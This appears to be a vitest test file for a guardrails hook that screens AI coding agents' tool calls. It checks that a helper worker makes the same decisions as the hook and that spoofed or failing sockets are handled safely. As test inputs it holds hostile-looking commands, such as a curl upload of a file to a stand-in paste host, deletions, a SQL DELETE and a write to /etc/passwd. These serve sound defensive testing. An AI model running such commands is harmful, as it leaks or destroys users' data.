/** A hook that a worker answers, as processes: the same answers and records as without one, each exactly once. */
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { connect, createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { addressFile, addressText, readAddress, socketPath, workersFolder } from '../../server/hook/worker-address';
import { readCurrent } from '../../server/runtime/current';
import { installRuntime } from '../../server/runtime/install';
import { listeningWorker } from '../support/hook-worker';
import { type AuditRecord, type CallOptions, dist, type HookReply, HookWorld } from '../support/hook-world';
import { startWorker, until, type WorkerClient, type WorkerClientOptions } from '../support/worker-client';

vi.setConfig({ testTimeout: 60_000 });

let world: HookWorld;
let folder: string;
let workers: WorkerClient[];
let servers: Server[];

const policy = `apiVersion: guardrails/v1
id: test/hook
mode: enforce
extends:
  - pack: core/database@1
  - pack: core/git@1
rules:
  - id: test/no-delete
    effects: [fs.delete]
    decide: deny
    because: "{path} müsste bleiben – „so“ 🙂."
    instead: Move it to attic/.
  - id: test/ask-upload
    effects: [net.upload]
    decide: ask
    because: Data leaves the machine.
  - id: test/warn-commit
    effects: [vcs.commit]
    decide: warn
    because: Commits are noticed.
`;

beforeEach(async () => {
  world = new HookWorld();
  world.write('.guardrails/policy.yaml', policy);
  await world.acceptPolicy();
  const settings = { instantRun: true };
  folder = installRuntime({ source: dist, home: world.home, execPath: process.execPath, settings }).path ?? '';
  workers = [];
  servers = [];
});

afterEach(async () => {
  await Promise.all(workers.map((worker) => worker.stop()));
  for (const server of servers) server.close();
  world.remove();
});

/** A worker that hooks can find, and has decided before. Its own folder and variables are not those of the hooks. */
async function listen(options: WorkerClientOptions = {}): Promise<WorkerClient> {
  const worker = await listeningWorker(world, options);
  workers.push(worker);
  await worker.request('guardrails/check', { command: 'rm keep.txt' });
  return worker;
}

/** The installed hook: asks a worker when there is one. */
function ask(payload: unknown, event = 'PreToolUse', options: CallOptions = {}): Promise<HookReply> {
  return world.call(payload, event, { folder, ...options });
}

/** Asks until the worker has decided: on a busy machine a hook may have given it up. */
async function askOf(
  worker: WorkerClient,
  payload: Record<string, unknown>,
  options?: CallOptions,
): Promise<HookReply> {
  for (let attempt = 1; ; attempt++) {
    const reply = await ask({ ...payload, tool_use_id: `attempt ${attempt}` }, 'PreToolUse', options);
    if (pids().at(-1) === worker.process.pid) return reply;
    if (attempt === 20) throw new Error(`not answered by ${worker.process.pid} but ${pids()}`);
  }
}

/** Which processes have decided. */
function pids(): (number | undefined)[] {
  return world.decisions().map(({ actor }) => actor?.pid);
}

interface HookOutput {
  readonly permissionDecision?: string;
  readonly permissionDecisionReason?: string;
}

function outputOf({ reply }: HookReply): HookOutput {
  return (reply?.hookSpecificOutput ?? {}) as HookOutput;
}

function permissionOf(reply: HookReply): string | undefined {
  return outputOf(reply).permissionDecision;
}

/** What of a record is the same whoever decided; calls are told apart by the word after the comma. */
function lasting({ id, actor, ...record }: AuditRecord): unknown {
  const { time, corr, timing, $prev, $seq, ...rest } = record as unknown as Record<string, unknown>;
  return JSON.parse(JSON.stringify({ ...rest, actor: { ...actor, pid: 0 } }).replace(/, (alone|asked)\b/g, ''));
}

describe('answers and records what the hook itself would', () => {
  const command = 'rm keep.txt';
  const calls: [string, string, string, Record<string, unknown>][] = [
    ['an allowed command', 'plugin', 'PreToolUse', shell('ls -la')],
    ['a denied command', 'plugin', 'PreToolUse', shell(command)],
    ['a questionable command', 'plugin', 'PreToolUse', shell('curl -d @a.txt https://paste.example')],
    ['a command with a warning', 'plugin', 'PreToolUse', shell('git commit -m "ü 🙂"')],
    ['SQL', 'plugin', 'PreToolUse', shell('psql -c "DELETE FROM orders"')],
    ['SQL that needs a grammar', 'plugin', 'PreToolUse', shell('psql -c "SELECT a IS FROM orders"')],
    ['a relative path', 'plugin', 'PreToolUse', shell('cat notes.txt; sh ./clean.sh; npm run clean')],
    ['text that is none', 'plugin', 'PreToolUse', shell('\u0000\ud800 $(\u0007')],
    ['an edit', 'plugin', 'PreToolUse', tool('create_file', { filePath: '/etc/passwd', content: 'ä' })],
    ['a tool that does nothing', 'plugin', 'PreToolUse', tool('list_dir', { path: '.' })],
    ['an unknown tool', 'plugin', 'PreToolUse', tool('brand_new_tool', { command })],
    ['a call without a tool', 'plugin', 'PreToolUse', { hook_event_name: 'PreToolUse' }],
    ['Claude', 'claude', 'PreToolUse', { ...tool('Bash', { command }), permission_mode: 'default' }],
    ['Claude by another folder', 'claude', 'PreToolUse', { ...tool('Bash', { command }), cwd: '/' }],
    ['Codex', 'codex', 'PreToolUse', { ...tool('Bash', { command }), turn_id: 't' }],
    ['Gemini', 'gemini', 'BeforeTool', { ...tool('run_shell_command', { command }), hook_event_name: 'BeforeTool' }],
    ['Cursor', 'cursor', 'beforeShellExecution', { conversation_id: 'c', command, workspace_roots: ['.'] }],
    ['Copilot CLI', 'file', 'preToolUse', { sessionId: 's', toolName: 'bash', toolArgs: JSON.stringify({ command }) }],
    ['an outcome', 'plugin', 'PostToolUse', { ...shell(command), hook_event_name: 'PostToolUse', tool_response: 'ok' }],
    ['a session', 'plugin', 'SessionStart', { hook_event_name: 'SessionStart', session_id: 's', source: 'new' }],
    ['a prompt', 'plugin', 'UserPromptSubmit', { hook_event_name: 'UserPromptSubmit', session_id: 's', prompt: 'ü' }],
    ['an event of no interest', 'plugin', 'Stop', { hook_event_name: 'Stop', session_id: 's' }],
  ];

  function tool(name: string, input: unknown): Record<string, unknown> {
    return { hook_event_name: 'PreToolUse', session_id: 'session-1', tool_name: name, tool_input: input };
  }

  function shell(line: string): Record<string, unknown> {
    return tool('run_in_terminal', { command: line });
  }

  test('in every dialect', async () => {
    world.write('clean.sh', 'rm -rf build\n');
    world.write('package.json', '{"scripts":{"clean":"rm -rf build"}}');
    const worker = await listen();
    const byWorker: string[] = [];
    for (const [name, registration, event, payload] of calls) {
      const project = registration === 'claude' ? { CLAUDE_PROJECT_DIR: world.workspace } : {};
      const options = { registration, env: { ...world.env, ...project, PGHOST: 'db.example' } };
      const alone = await world.call({ ...payload, tool_use_id: `${name}, alone` }, event, options);
      const before = world.records();
      const asked = await ask({ ...payload, tool_use_id: `${name}, asked` }, event, options);
      const added = world.records().slice(before.length);
      expect(asked, name).toEqual(alone);
      expect(added.map(lasting), name).toEqual(before.slice(before.length - added.length).map(lasting));
      if (payload.tool_name !== undefined && event === 'PreToolUse') expect(added, name).toHaveLength(1);
      if (added[0]?.actor?.pid === worker.process.pid) byWorker.push(name);
    }
    // On a busy machine a hook may have given the worker up now and then.
    expect(byWorker.length).toBeGreaterThan(calls.length / 2);
  });

  test('in the folder and with the variables of the hook, not its own', async () => {
    const worker = await listen({ env: { TARGET: 'of-the-worker.txt', GIT_DIR: '/nowhere' } });
    mkdirSync(join(world.workspace, 'deep'));
    const env = { ...world.env, TARGET: 'of-the-hook.txt' };
    const cwd = join(world.workspace, 'deep');
    const call = world.terminalCall('rm "$TARGET"', { cwd: undefined });
    const reply = await askOf(worker, call, { env, cwd });
    expect(outputOf(reply).permissionDecisionReason).toContain('of-the-hook.txt');
    expect(JSON.stringify(world.records())).toContain(join(cwd, 'of-the-hook.txt'));
  });

  test('also where Node does not give out its pipes', async () => {
    const preload = join(world.home, 'no-pipes.cjs');
    writeFileSync(preload, 'process.binding = undefined;');
    const worker = await listen();
    const reply = await askOf(worker, world.terminalCall('rm keep.txt'), { nodeArgs: ['--require', preload] });
    expect(permissionOf(reply)).toBe('deny');
  });

  test('by the policy as it is at each call', async () => {
    world.write('.guardrails/policy.yaml', policy.replace('decide: deny', 'decide: ask'));
    await world.acceptPolicy();
    const worker = await listen();
    expect(permissionOf(await askOf(worker, world.terminalCall('rm a.txt')))).toBe('ask');
    world.write('.guardrails/policy.yaml', policy);
    expect(permissionOf(await askOf(worker, world.terminalCall('rm b.txt')))).toBe('deny');
    world.write('.guardrails/policy.yaml', 'apiVersion: [');
    expect(permissionOf(await askOf(worker, world.terminalCall('rm c.txt')))).toBe('deny');
  });

  test('fifty calls at once: none is answered unrecorded or recorded twice', async () => {
    await listen();
    const ids = Array.from({ length: 50 }, (_, index) => `call-${index}`);
    const replies = await Promise.all(ids.map((id) => ask(world.terminalCall('rm keep.txt', { tool_use_id: id }))));
    expect(new Set(replies.map(permissionOf))).toEqual(new Set(['deny']));
    const recorded = world.decisions().map(({ session }) => session?.tool_call_id);
    expect(new Set(recorded).size).toBe(recorded.length);
    // On a slow machine some run out of time, which refuses them.
    const byRule = ids.filter((_, index) => JSON.stringify(replies[index]?.reply).includes('test/no-delete'));
    expect(recorded).toEqual(expect.arrayContaining(byRule));
  });
});

test('calls are answered and recorded when the worker dies among them', async () => {
  const worker = await listen();
  const ids = Array.from({ length: 12 }, (_, index) => `call-${index}`);
  const replies = ids.map((id) => ask(world.terminalCall('rm keep.txt', { tool_use_id: id })));
  await Promise.race(replies);
  worker.process.kill('SIGKILL');
  const answered = await Promise.all(replies);
  expect(new Set(answered.map(permissionOf))).toEqual(new Set(['deny']));
  const byRule = ids.filter((_, index) => JSON.stringify(answered[index]?.reply).includes('test/no-delete'));
  expect(world.decisions().map(({ session }) => session?.tool_call_id)).toEqual(expect.arrayContaining(byRule));
});

describe('the hook decides by itself', () => {
  async function expectAlone(worker?: WorkerClient, options: CallOptions = {}): Promise<void> {
    const result = await ask(world.terminalCall('rm keep.txt'), 'PreToolUse', options);
    expect(permissionOf(result)).toBe('deny');
    const { pid } = worker?.process ?? {};
    expect(pids()).toHaveLength(1);
    expect(pids()).not.toContain(pid);
  }

  test('when there is no worker', () => expectAlone());

  test('when the worker was killed and left its files', async () => {
    const worker = await listen();
    worker.process.kill('SIGKILL');
    await until(() => worker.process.signalCode !== null);
    expect(existsSync(addressFile(world.home, world.workspace))).toBe(true);
    await expectAlone(worker);
  });

  test('when the worker hangs, soon, and once it goes on it leaves the call alone', async () => {
    const worker = await listen();
    worker.process.kill('SIGSTOP');
    await expectAlone(worker);
    worker.process.kill('SIGCONT');
    await worker.request('guardrails/status', undefined);
    expect(world.decisions()).toHaveLength(1);
  });

  test('when the worker is of another build', async () => {
    const worker = await listen();
    const file = addressFile(world.home, world.workspace);
    const address = readAddress(file);
    if (!address) throw new Error('no address');
    writeFileSync(file, addressText({ ...address, build: '0.0.1-00000000' }));
    await expectAlone(worker);
  });

  test('when nobody has trusted the workspace', async () => {
    const worker = await listen();
    const file = addressFile(world.home, world.workspace);
    await worker.connection.sendNotification('guardrails/settings', { trusted: false });
    await until(() => !existsSync(file));
    await expectAlone(worker);
  });

  test('when the worker serves another workspace, or the hook has another home', async () => {
    const worker = await listen();
    const other = join(world.workspace, '../other');
    mkdirSync(join(other, '.git'), { recursive: true });
    writeFileSync(join(other, '.git/HEAD'), 'ref: refs/heads/main\n');
    const own = addressFile(world.home, world.workspace);
    writeFileSync(addressFile(world.home, other), addressText(readAddress(own) ?? never()));
    const result = await ask({ ...world.terminalCall('ls'), cwd: other });
    expect(result.code).toBe(0);
    expect(readdirSync(join(other, '.guardrails/audit'))).not.toHaveLength(0);
    const home = join(world.home, '../home2');
    mkdirSync(join(home, '.guardrails'), { recursive: true, mode: 0o700 });
    await expectAlone(worker, { env: { ...world.env, HOME: home } });
  });

  test('when it is in another time zone', async () => {
    await expectAlone(await listen(), { env: { ...world.env, TZ: 'Pacific/Kiritimati' } });
  });

  test('when others may enter the folder of the socket', async () => {
    const worker = await listen();
    chmodSync(workersFolder(world.home), 0o755);
    await expectAlone(worker);
  });

  test.skipIf(process.getuid?.() !== 0)('when the folder of the socket is somebody else’s', async () => {
    const worker = await listen();
    chownSync(workersFolder(world.home), 65_534, 65_534);
    await expectAlone(worker);
  });

  test('when the call is larger than a worker takes', async () => {
    const worker = await listen();
    const result = await ask(world.terminalCall(`rm ${'x'.repeat(2 * 1024 * 1024)}`));
    expect(permissionOf(result)).toMatch(/deny|ask/);
    expect(pids()).not.toContain(worker.process.pid);
  });
});

function never(): never {
  throw new Error('not there');
}

describe('whoever else listens at the socket', () => {
  const password = 'abc';

  /** Puts a server where hooks look for a worker. */
  async function plant(serve: (socket: Socket) => void): Promise<void> {
    mkdirSync(workersFolder(world.home), { mode: 0o700 });
    const build = readCurrent(join(world.home, '.guardrails/runtime'))?.folder ?? never();
    const server = createServer((socket) => serve(socket.on('error', () => undefined)));
    servers.push(server);
    await new Promise<void>((listening) => server.listen(socketPath(world.home, 'planted.sock'), listening));
    const address = { socket: 'planted.sock', build, password };
    writeFileSync(addressFile(world.home, world.workspace), addressText(address));
  }

  const yes = JSON.stringify({ stdout: '', stderr: '', exitCode: 0 });
  const servings: [string, (socket: Socket) => void][] = [
    ['says nothing', () => undefined],
    ['hangs up', (socket) => socket.destroy()],
    ['answers without the password', (socket) => socket.end(`${yes}\n`)],
    ['has a wrong password', (socket) => socket.write(`nonsense\n${yes}\n`)],
    ['answers garbage', (socket) => socket.end(`${password}\n{"stdout":1}\n`)],
    ['answers text that is no JSON', (socket) => socket.end(`${password}\nyes\n`)],
    ['never ends its line', (socket) => flood(socket, password)],
    ['never ends its reply', (socket) => flood(socket, `${password}\n`)],
    [
      'dies after it has accepted',
      (socket) => socket.write(`${password}\n`, () => setTimeout(() => socket.destroy(), 50)),
    ],
    ['stalls after it has accepted', (socket) => socket.write(`${password}\n`)],
  ];

  function flood(socket: Socket, start: string): void {
    socket.write(start);
    const more = () => socket.destroyed || socket.write('x'.repeat(64 * 1024), () => setImmediate(more));
    more();
  }

  test.each(servings)('and %s: the hook decides by itself within its deadline', async (_, serve) => {
    await plant(serve);
    const started = Date.now();
    expect(permissionOf(await ask(world.terminalCall('rm keep.txt')))).toBe('deny');
    expect(Date.now() - started).toBeLessThan(4_000);
    expect(world.decisions().length).toBeLessThanOrEqual(1);
  });
});

describe('the worker', () => {
  function talk(text: string): Promise<string> {
    const { socket } = readAddress(addressFile(world.home, world.workspace)) ?? never();
    return new Promise((resolve, reject) => {
      let heard = '';
      const client = connect(socketPath(world.home, socket));
      client.setEncoding('utf8').on('data', (data) => (heard += data));
      client.on('close', () => resolve(heard)).on('error', reject);
      client.write(text);
    });
  }

  test('lets nobody but its user in', async () => {
    await listen();
    const { socket } = readAddress(addressFile(world.home, world.workspace)) ?? never();
    expect(statSync(workersFolder(world.home)).mode & 0o777).toBe(0o700);
    expect(statSync(socketPath(world.home, socket)).mode & 0o777).toBe(0o600);
    expect(statSync(addressFile(world.home, world.workspace)).mode & 0o777).toBe(0o600);
  });

  test.each([
    ['nothing', ''],
    ['no JSON', 'hello\n'],
    ['JSON of another shape', '{"payload":[]}\n'],
    ['a line without an end', 'x'.repeat(3 * 1024 * 1024)],
    ['a line that is too long', `${'x'.repeat(3 * 1024 * 1024)}\n`],
  ])('hangs up on a client that sends %s, and goes on', async (_, text) => {
    const worker = await listen();
    expect(await talk(text).catch(() => '')).toBe('');
    await askOf(worker, world.terminalCall('ls'));
  });

  test('decides nothing that is not confirmed, or confirmed as nonsense', async () => {
    const worker = await listen();
    const call = JSON.stringify(await sentCall());
    const { password } = readAddress(addressFile(world.home, world.workspace)) ?? never();
    for (const confirmation of ['', '-1\n', '0\n', '99999\n', 'yes\n']) {
      expect(await talk(`${call}\n${confirmation}`)).toBe(`${password}\n`);
    }
    expect(world.records()).toEqual([]);
    expect(await talk(`${call}\n1000\n`)).toMatch(/"permissionDecision/);
    expect(pids()).toEqual([worker.process.pid]);
  });

  /** What a hook would send, heard by a server in the worker's place. */
  async function sentCall(): Promise<unknown> {
    const file = addressFile(world.home, world.workspace);
    const address = readAddress(file) ?? never();
    const heard = new Promise<string>((resolve) => {
      const server = createServer((socket) => socket.once('data', (data) => resolve(String(data))));
      servers.push(server.listen(socketPath(world.home, 'ear.sock')));
    });
    writeFileSync(file, addressText({ ...address, socket: 'ear.sock' }));
    const alone = ask({ ...world.terminalCall('rm keep.txt'), hook_event_name: 'PreToolUse' });
    const call: unknown = JSON.parse(await heard);
    await alone;
    rmSync(join(world.workspace, '.guardrails/audit'), { recursive: true });
    rmSync(join(world.home, '.guardrails/anchors'), { recursive: true });
    writeFileSync(file, addressText(address));
    return call;
  }

  test('does not wait for clients that hold the line', async () => {
    const worker = await listen();
    const { socket } = readAddress(addressFile(world.home, world.workspace)) ?? never();
    const idle = Array.from({ length: 80 }, () => connect(socketPath(world.home, socket)).on('error', () => undefined));
    await Promise.all(idle.map((client) => new Promise((closed) => client.resume().on('close', closed))));
    await askOf(worker, world.terminalCall('ls'));
  });

  test('takes its files away when it ends', async () => {
    const worker = await listen();
    await worker.connection.sendRequest('shutdown');
    await worker.connection.sendNotification('exit');
    await until(() => worker.process.exitCode !== null);
    expect(readdirSync(workersFolder(world.home))).toEqual([]);
  });

  test('clears away what a killed one left, and takes its place', async () => {
    const dead = await listen();
    dead.process.kill('SIGKILL');
    const left = readAddress(addressFile(world.home, world.workspace));
    const worker = await startWorker({ home: world.home, workspace: world.workspace });
    workers.push(worker);
    await until(() => {
      const now = readAddress(addressFile(world.home, world.workspace));
      return now !== undefined && now.socket !== left?.socket;
    });
    await askOf(worker, world.terminalCall('ls'));
  });

  test('leaves a workspace to the one that answers for it already', async () => {
    const first = await listen();
    const second = await listen();
    await second.request('guardrails/status', undefined);
    await askOf(first, world.terminalCall('ls'));
    expect(pids()).not.toContain(second.process.pid);
  });

  test('says so when its socket is taken away, once', async () => {
    const worker = await listen();
    rmSync(workersFolder(world.home), { recursive: true });
    const settings = { trusted: true, diagnostics: true, showAllowed: false };
    for (let time = 0; time < 3; time++) {
      await worker.connection.sendNotification('guardrails/settings', settings);
    }
    await until(() => worker.messages.some((message) => /has been removed/.test(message)));
    await worker.request('guardrails/status', undefined);
    expect(worker.messages.filter((message) => /has been removed/.test(message))).toHaveLength(1);
    await ask(world.terminalCall('ls'));
    expect(pids()).not.toContain(worker.process.pid);
  });

  test('says why when it cannot listen', async () => {
    mkdirSync(workersFolder(world.home), { mode: 0o755 });
    chmodSync(workersFolder(world.home), 0o755);
    const worker = await startWorker({ home: world.home, workspace: world.workspace });
    workers.push(worker);
    await until(() => worker.messages.some((message) => /decide by themselves.*chmod 700/.test(message)));
    await ask(world.terminalCall('ls'));
    expect(pids()).not.toContain(worker.process.pid);
  });
});
